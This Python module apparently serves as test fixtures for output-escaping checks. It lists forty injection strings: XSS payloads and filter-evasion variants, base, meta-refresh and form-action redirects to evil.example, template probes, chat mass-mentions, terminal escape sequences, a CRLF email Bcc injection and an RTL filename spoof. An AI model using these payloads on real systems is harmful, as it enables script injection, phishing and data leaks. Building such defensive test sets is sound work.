"""Forty texts that want to be more than text, by where they would act."""

MARK = "pwned"
_RUN = f"document.title='{MARK}'"

MARKUP = (
    f"<script>{_RUN}</script>", f'<img src=x onerror="{_RUN}">', f"<svg onload={_RUN}>", f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>", f"</title><script>{_RUN}</script>", f"</td></tr></table><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f'<iframe srcdoc="<script>top.{_RUN}</script>">',
    f'<a href="javascript:{_RUN}">x</a>', f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f'<math><mi//xlink:href="data:x,<script>{_RUN}</script>">', "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>", "{{7*7}}{% raw %}${7*7}#{7*7}", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"<scr\0ipt>{_RUN}</scr\0ipt>", f"<ScRiPt >{_RUN}</sCrIpT>",
)
CHAT = (
    "<!channel> wake up", "<!everyone>", "@channel @here @everyone", "<@U012AB3CD>", "<https://evil.example|https://shop.example>",
    "*bold* _it_ ~no~ `x`",
)
MARKDOWN = (
    f"[click](javascript:{_RUN})", "![x](https://evil.example/x.png)", "| a | b |\n|---|---|", "# heading\n\n- list", "<https://evil.example>",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "a\rb\x08\x08c",
    "[bold red]x[/]",
)
HEADER = ("subject\r\nBcc: victim@evil.example", "x\nContent-Type: text/html\n\n<b>", "\u202egpj.exe")
ALL = (*MARKUP, *CHAT, *MARKDOWN, *TERMINAL, *HEADER)
